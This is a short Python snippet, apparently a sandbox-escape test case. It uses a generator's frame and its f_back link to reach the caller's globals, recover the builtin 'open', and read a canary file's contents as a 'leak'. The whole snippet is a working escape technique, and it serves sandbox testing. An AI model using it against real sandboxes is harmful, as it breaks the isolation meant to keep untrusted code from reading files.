# route: the frame of a generator
def execute(testData):
    def gen():
        yield frames[0].gi_frame.f_back

    frames = [gen()]
    frames[0] = gen()
    frame = next(frames[0])
    return {"leak": frame.f_globals["__builtins__"]["open"](testData["canary_path"]).read()}
